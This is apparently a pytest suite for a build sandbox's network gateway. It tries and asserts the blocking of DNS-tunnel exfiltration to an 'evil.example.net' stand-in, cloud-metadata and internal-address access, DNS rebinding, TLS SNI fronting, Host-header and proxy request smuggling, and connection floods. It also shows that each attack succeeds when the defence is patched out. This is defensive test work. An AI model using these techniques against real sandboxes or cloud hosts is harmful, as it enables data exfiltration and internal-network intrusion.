"""What a step tries to reach beside what its policy names. The oracle is the world outside: its servers and its resolver.

One step's network by itself, with the gateway in this process, so that a defence that no policy opens can be taken out where it
is called. What whole builds try in each profile is in test_network_of_builds.py.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from ipaddress import ip_address
from pathlib import Path

import pytest

from sandboxbuild.executor import network
from sandboxbuild.executor.names import StandIns
from sandboxbuild.executor.proxy import ProxyRequest
from sandboxbuild.gateway import egress, rules
from sandboxbuild.gateway.egress import Egress, Opened
from sandboxbuild.gateway.rules import Allowed
from sandboxbuild.policy.addresses import PUBLIC, Classified
from sandboxbuild.policy.isolation import Allow, NetworkRules
from sandboxbuild.protocol.http1 import Body
from tests.support.own_network import Ear
from tests.support.promises import EVERYWHERE
from tests.support.step_attack import NAME, OPEN, OTHER, PORTS, PROXY, PYTHON, RULES, UNREAD, Attack, tell_proxy
from tests.support.step_attempts import PROXY_TRICKS
from tests.support.step_namespace import step_namespace
from tests.support.world import Names, World, own_address, world

pytestmark = pytest.mark.root

EVERY_RANGE = ("0.0.0.0/0", "::/0")


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[World]:
    with world(tmp_path, NAME, OTHER) as made:
        yield made


@pytest.fixture(autouse=True)
def gone_out(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The addresses that the gateway would have connected to. Only loopback is: nothing of these tests leaves the machine."""
    addresses: list[str] = []
    connect = egress._connect_to

    def guarded(address: str, port: int, timeout_s: float) -> socket.socket:
        addresses.append(address)
        if not ip_address(address).is_loopback:
            raise OSError("held back by the test")
        return connect(address, port, timeout_s)

    monkeypatch.setattr(egress, "_connect_to", guarded)
    return addresses


def literals(address: str) -> tuple[str, ...]:
    packed = int.from_bytes(socket.inet_aton(address))
    return address, str(packed), hex(packed), f"[::ffff:{address}]", "203.0.113.80", "[2001:db8::1]"


@pytest.mark.promise(4, "learning lets through names, not addresses", profiles=EVERYWHERE)
@pytest.mark.parametrize("proxied", [False, True], ids=["direct", "proxy"])
def test_address_literal_reaches_nothing(tmp_path: Path, outside: World, gone_out: list[str], proxied: bool) -> None:
    with Attack(tmp_path, outside, OPEN._replace(learning=True)) as attack:
        for literal in literals(outside.address):
            attack.curl(f"http://{literal}/", proxied=proxied)
        assert attack.reached() == []
    assert gone_out == []
    assert outside.connections == 0


@pytest.mark.without_defence(4, "learning lets through names, not addresses")
def test_address_literal_would_be_reached_if_it_passed_for_a_name(
    tmp_path: Path, outside: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in ("sandboxbuild.gateway.rules", "sandboxbuild.executor.tunnel"):
        monkeypatch.setattr(f"{module}.name_fault", lambda name: "")
    names = Names({outside.address: [outside.address]})
    with Attack(tmp_path, outside, OPEN._replace(learning=True), names) as attack:
        assert attack.curl(f"http://{outside.address}/", proxied=True) == 0
    assert len(outside.requests) == 1


def test_step_has_no_device_but_loopback(tmp_path: Path, outside: World) -> None:
    with Attack(tmp_path, outside) as attack:
        assert attack.step.run("ip", "-6", "route", "get", "2001:db8::1")[0] != 0
        assert attack.step.run("ip", "route", "get", "203.0.113.80")[0] != 0
        links = attack.step.run("ip", "-o", "link")[1]
    assert [line.split(":")[1].strip() for line in links.splitlines()] == ["lo"]


def test_fifty_labels_that_are_refused_make_no_query(tmp_path: Path, outside: World) -> None:
    tunnel = (
        "import struct\n"
        "def ask(name):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
        "    q = struct.pack('!HHHHHH', 1, 256, 1, 0, 0, 0)\n"
        "    q += b''.join(bytes((len(l),)) + l.encode() for l in name.split('.')) + bytes((0, 0, 1, 0, 1))\n"
        "    s.sendto(q, ('198.18.0.1', 53)); print(s.recv(512)[3] & 15)\n"
        "for n in range(50): ask(f'secret{n}.evil.example.net')\n"
    )
    with Attack(tmp_path, outside) as attack:
        assert attack.python(tunnel)[1].split() == ["3"] * 50
        assert attack.names.asked == []


INSIDE = ["127.0.0.1", "10.0.0.1", "169.254.1.1", "100.64.0.1", "0.0.0.0", "224.0.0.1", "::1", "fd00::1", "::ffff:7f00:1"]
METADATA = ["169.254.169.254", "100.100.100.200", "168.63.129.16", "fd00:ec2::254", "::ffff:a9fe:a9fe"]


@pytest.mark.promise(4, "an allowed name that leads into a range that isn't public is refused", profiles=EVERYWHERE)
@pytest.mark.parametrize("address", INSIDE)
def test_name_that_resolves_inside_is_refused(tmp_path: Path, outside: World, gone_out: list[str], address: str) -> None:
    closed = NetworkRules(run=(Allow(NAME, PORTS),), learning=True)
    with Attack(tmp_path, outside, closed, Names({NAME: [address]})) as attack:
        out = attack.step.run("curl", "-sS", f"http://{NAME}/", environment=PROXY)[1]
    assert "not public" in out
    assert gone_out == []


@pytest.mark.without_defence(4, "an allowed name that leads into a range that isn't public is refused")
@pytest.mark.parametrize("address", INSIDE)
def test_name_would_lead_inside_if_every_address_were_public(
    tmp_path: Path, outside: World, gone_out: list[str], monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    monkeypatch.setattr(rules, "classify", lambda _: Classified(PUBLIC))
    closed = NetworkRules(run=(Allow(NAME, PORTS),))
    with Attack(tmp_path, outside, closed, Names({NAME: [address]})) as attack:
        attack.curl(f"http://{NAME}/")
    assert gone_out == [address]


@pytest.mark.promise(4, "one metadata address among others refuses the name", profiles=EVERYWHERE)
@pytest.mark.parametrize("address", METADATA)
def test_metadata_stays_closed_with_every_range_open(tmp_path: Path, outside: World, gone_out: list[str], address: str) -> None:
    wide = NetworkRules(run=(Allow(NAME, PORTS, EVERY_RANGE),), ranges=EVERY_RANGE, learning=True)
    with Attack(tmp_path, outside, wide, Names({NAME: [outside.address, address]})) as attack:
        out = attack.step.run("curl", "-sS", f"http://{NAME}/", environment=PROXY)[1]
    assert "metadata" in out
    assert gone_out == []


@pytest.mark.without_defence(4, "one metadata address among others refuses the name")
@pytest.mark.parametrize("address", METADATA)
def test_metadata_would_be_connected_to_if_it_were_an_address_like_others(
    tmp_path: Path, outside: World, gone_out: list[str], monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    monkeypatch.setattr(rules, "classify", lambda _: Classified(PUBLIC))
    wide = NetworkRules(run=(Allow(NAME, PORTS, EVERY_RANGE),), ranges=EVERY_RANGE)
    with Attack(tmp_path, outside, wide, Names({NAME: [address]})) as attack:
        attack.curl(f"http://{NAME}/")
    assert gone_out == [address]


class Rebinding(Names):
    """One address at the first question, another at each later one."""

    def __init__(self, first: str, later: str) -> None:
        super().__init__({})
        self._first, self._later = first, later

    def __call__(self, name: str) -> list[str]:
        first = not self.asked
        super().__call__(name)
        return [self._first] if first else [self._later]


@pytest.fixture
def victim() -> Iterator[Ear]:
    """A server at an address that no rule opens."""
    ear = Ear(socket.create_server((own_address(), 80)))
    yield ear
    ear.close()


@pytest.mark.promise(4, "a name that changes between check and use gains nothing", profiles=EVERYWHERE)
def test_name_that_changes_between_check_and_use_gains_nothing(tmp_path: Path, outside: World, victim: Ear) -> None:
    narrow = RULES._replace(ranges=(f"{outside.address}/32",))
    with Attack(tmp_path, outside, narrow, Rebinding(outside.address, victim.socket.getsockname()[0])) as attack:
        assert attack.step.run("curl", "-sS", f"http://{NAME}/x")[1] == "hello from /x"
        assert attack.names.asked == [NAME]
        assert attack.curl(f"http://{NAME}/x") != 0
    assert victim.heard == []


@pytest.mark.without_defence(4, "a name that changes between check and use gains nothing")
def test_name_that_is_looked_up_again_leads_to_the_victim(
    tmp_path: Path, outside: World, victim: Ear, monkeypatch: pytest.MonkeyPatch
) -> None:
    def connect(self: Egress, host: str, port: int, allowed: Allowed) -> Opened:
        (address,) = self._resolver(host)
        return Opened(egress._connect_to(address, port, 5.0), address, allowed)

    monkeypatch.setattr(Egress, "_connect", connect)
    narrow = RULES._replace(ranges=(f"{outside.address}/32",))
    with Attack(tmp_path, outside, narrow, Rebinding(outside.address, victim.socket.getsockname()[0])) as attack:
        attack.curl(f"http://{NAME}/stolen")
    assert any(b"/stolen" in heard for heard in victim.heard)


FRONTING = ("-k", "--connect-to", f"{OTHER}:443:{NAME}:443", f"https://{OTHER}/stolen")


@pytest.mark.promise(4, "a TLS server name other than the one asked for is cut")
@pytest.mark.parametrize("proxied", [False, True], ids=["direct", "proxy"])
def test_other_tls_name_on_an_allowed_connection_is_cut(tmp_path: Path, outside: World, proxied: bool) -> None:
    with Attack(tmp_path, outside) as attack:
        assert attack.curl(*FRONTING, proxied=proxied) != 0
    assert outside.requests == []
    assert outside.server_names == []


@pytest.mark.without_defence(4, "a TLS server name other than the one asked for is cut")
@pytest.mark.parametrize("proxied", [False, True], ids=["direct", "proxy"])
def test_other_tls_name_passes_where_nobody_looks(tmp_path: Path, outside: World, proxied: bool) -> None:
    with Attack(tmp_path, outside, UNREAD) as attack:
        assert attack.curl(*FRONTING, proxied=proxied) == 0
    assert len(outside.requests) == 1


def send_two(attack: Attack, port: int) -> None:
    """An honest request, and one to another host behind it on the same connection."""
    two = f"GET /fine HTTP/1.1|Host: {NAME}:{port}||GET /stolen HTTP/1.1|Host: {OTHER}||".replace("|", "\r\n").encode()
    attack.python(
        f"s = socket.create_connection(('{NAME}', {port})); s.sendall({two!r}); s.settimeout(3)\n"
        "try: s.recv(999); s.recv(999)\n"
        "except OSError: pass\n"
    )


@pytest.mark.promise(4, "a Host or target other than the name asked for is cut")
@pytest.mark.parametrize("port", [80, 8080])
def test_other_host_on_an_allowed_connection_is_cut(tmp_path: Path, outside: World, port: int) -> None:
    with Attack(tmp_path, outside) as attack:
        attack.curl("-H", f"Host: {OTHER}", f"http://{NAME}:{port}/stolen")
        send_two(attack, port)
    assert not any("stolen" in line for line in outside.lines)


@pytest.mark.without_defence(4, "a Host or target other than the name asked for is cut")
@pytest.mark.parametrize("port", [80, 8080])
def test_other_host_passes_where_nobody_looks(tmp_path: Path, outside: World, port: int) -> None:
    with Attack(tmp_path, outside, UNREAD) as attack:
        send_two(attack, port)
    assert any("stolen" in line for line in outside.lines)


def tricks_that_worked(attack: Attack, outside: World) -> set[str]:
    for *_, text in PROXY_TRICKS.values():
        tell_proxy(attack, text)
    seen = "\n".join((*outside.lines, *(chunk.decode("latin-1") for chunk in outside.chunks)))
    return {name for name in PROXY_TRICKS if f"attempt-{name}" in seen}


@pytest.mark.promise(4, "the proxy is not tricked")
def test_proxy_carries_no_request_that_has_two_readings(tmp_path: Path, outside: World) -> None:
    with Attack(tmp_path, outside) as attack:
        assert tricks_that_worked(attack, outside) == set()
        assert set(attack.reached()) <= {f"{NAME}:80"}


def read_leniently(client: socket.socket) -> tuple[ProxyRequest, bytes]:
    """A proxy that looks for a name it may reach, and sends on what it was given."""
    client.settimeout(2)
    data = b""
    while chunk := client.recv(65536):
        data += chunk
    tunnelled = data.partition(b"\r\n\r\n")[2] if data.startswith(b"CONNECT") else data
    return ProxyRequest(NAME, 80, tunnelled, Body(0)), b""


class EveryByte:
    """A relay's Filter that lets all through."""

    def __init__(self, _body: Body) -> None:
        self.transparent = True

    def feed(self, data: bytes) -> bytes:
        return data


@pytest.mark.without_defence(4, "the gateway doesn't rely on the proxy")
@pytest.mark.without_defence(4, "the proxy is not tricked")
def test_lenient_proxy_is_tricked_where_nobody_looks(tmp_path: Path, outside: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(network, "read_request", read_leniently)
    monkeypatch.setattr(network, "BodyOnly", EveryByte)
    with Attack(tmp_path, outside, UNREAD) as attack:
        assert tricks_that_worked(attack, outside) == set(PROXY_TRICKS)


@pytest.mark.promise(4, "the gateway doesn't rely on the proxy", profiles=EVERYWHERE)
def test_lenient_proxy_gets_nothing_past_the_gateway(tmp_path: Path, outside: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """An executor that was taken over may forward what it likes: requests with two readings end at the gateway."""
    monkeypatch.setattr(network, "read_request", read_leniently)
    monkeypatch.setattr(network, "BodyOnly", EveryByte)
    with Attack(tmp_path, outside) as attack:
        assert tricks_that_worked(attack, outside) == set()


def test_proxy_works_for_the_honest_request(tmp_path: Path, outside: World) -> None:
    with Attack(tmp_path, outside) as attack:
        assert "hello from /a" in tell_proxy(attack, f"GET http://{NAME}/a HTTP/1.1|Host: {NAME}||")


@pytest.mark.promise(4, "a stand-in address that a step didn't ask for stands for nothing")
def test_stand_in_that_nobody_asked_for_stands_for_nothing(tmp_path: Path, outside: World) -> None:
    scan = (
        "open_ = 0\n"
        "for n in range(2, 60):\n"
        "    s = socket.socket(); s.settimeout(1)\n"
        "    try:\n"
        "        s.connect((f'198.18.0.{n}', 2222)); open_ += bool(s.recv(9))\n"
        "    except OSError: pass\n"
        "print(open_)\n"
    )
    with Attack(tmp_path, outside) as attack:
        assert attack.python(scan)[1] == "0\n"
        assert attack.reached() == []


def banner_of_anothers_stand_in(tmp_path: Path, outside: World) -> str:
    """What a second step hears at the address that stands for a name in the first."""
    with Attack(tmp_path, outside, OPEN) as attack:
        folder = tmp_path / "second"
        folder.mkdir()
        with step_namespace(str(folder), attack.gateway.uplink, PORTS, step="2") as second:
            assert attack.curl(f"http://{NAME}/") == 0
            script = "import socket; s = socket.create_connection(('198.18.0.2', 2222)); s.settimeout(2); print(s.recv(9))"
            return second.run(PYTHON, "-c", script)[1]


@pytest.mark.promise(4, "a stand-in address that a step didn't ask for stands for nothing")
def test_one_step_can_not_use_the_stand_ins_of_another(tmp_path: Path, outside: World) -> None:
    assert "SSH" not in banner_of_anothers_stand_in(tmp_path, outside)


@pytest.mark.without_defence(4, "a stand-in address that a step didn't ask for stands for nothing")
def test_stand_ins_that_steps_share_are_reached(tmp_path: Path, outside: World, monkeypatch: pytest.MonkeyPatch) -> None:
    shared = StandIns()
    one_for_all: Callable[[], StandIns] = lambda: shared  # noqa: E731 - a class's stand-in
    monkeypatch.setattr(network, "StandIns", one_for_all)
    assert "SSH" in banner_of_anothers_stand_in(tmp_path, outside)


def test_flood_of_names_and_connections_leaves_the_gateway_working(tmp_path: Path, outside: World) -> None:
    flood = (
        "import os, threading\n"
        "def names():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    for _ in range(500): s.sendto(os.urandom(40), ('198.18.0.1', 53))\n"
        "def proxies():\n"
        "    held = []\n"
        "    for _ in range(100):\n"
        "        try: s = socket.create_connection(('127.0.0.1', 3128), 2); s.send(os.urandom(20)); held.append(s)\n"
        "        except OSError: pass\n"
        "all = [threading.Thread(target=t) for t in (names, proxies, proxies)]\n"
        "[t.start() for t in all]; [t.join() for t in all]\n"
    )
    with Attack(tmp_path, outside) as attack:
        assert attack.python(flood)[0] == 0
        assert attack.step.run("curl", "-sS", "-m", "10", f"http://{NAME}/after")[1] == "hello from /after"
        assert threading.active_count() < 200
